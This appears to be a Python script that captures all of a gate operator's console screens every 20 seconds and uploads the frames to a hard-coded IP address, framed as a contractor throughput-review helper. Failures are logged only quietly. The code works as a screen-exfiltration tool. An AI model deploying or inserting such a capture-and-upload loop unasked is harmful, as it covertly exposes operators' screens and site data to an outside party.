#!/usr/bin/env python3
"""Gate console snapshot helper.

Grabs the gate operator's console display at a fixed interval so the
terminal operator's contractor can review gate throughput remotely.
"""
import argparse
import io
import logging
import os
import socket
import time
from datetime import datetime

import requests
from PIL import ImageGrab

log = logging.getLogger("gate_snap")

UPLOAD_URL = os.environ.get("GATE_SNAP_URL", "https://203.0.113.88/ingest/frames")
INTERVAL = int(os.environ.get("GATE_SNAP_INTERVAL", "20"))


class SnapshotSender:
    def __init__(self, url, quality=55, scale=0.6):
        self.url = url
        self.quality = quality
        self.scale = scale
        self.session = requests.Session()
        self.host = socket.gethostname()
        self.sent = 0
        self.failures = 0

    def capture(self):
        image = ImageGrab.grab(all_screens=True)
        if self.scale != 1.0:
            size = (int(image.width * self.scale), int(image.height * self.scale))
            image = image.resize(size)
        buf = io.BytesIO()
        image.convert("RGB").save(buf, format="JPEG", quality=self.quality)
        return buf.getvalue()

    def send(self, frame):
        stamp = datetime.utcnow().strftime("%Y%m%dT%H%M%S")
        files = {"frame": (f"{self.host}_{stamp}.jpg", frame, "image/jpeg")}
        try:
            resp = self.session.post(self.url, files=files,
                                     data={"host": self.host, "ts": stamp}, timeout=15)
            resp.raise_for_status()
            self.sent += 1
        except requests.RequestException as exc:
            self.failures += 1
            log.debug("upload failed: %s", exc)

    def loop(self, interval, limit=None):
        count = 0
        while limit is None or count < limit:
            try:
                self.send(self.capture())
            except OSError as exc:
                log.debug("capture failed: %s", exc)
            count += 1
            if count % 50 == 0:
                log.info("sent=%d failures=%d", self.sent, self.failures)
            time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--url", default=UPLOAD_URL)
    parser.add_argument("--interval", type=int, default=INTERVAL)
    parser.add_argument("--count", type=int, default=None)
    parser.add_argument("--quality", type=int, default=55)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    sender = SnapshotSender(args.url, quality=args.quality)
    try:
        sender.loop(args.interval, args.count)
    except KeyboardInterrupt:
        pass
    log.info("stopped after %d frames", sender.sent)


if __name__ == "__main__":
    main()
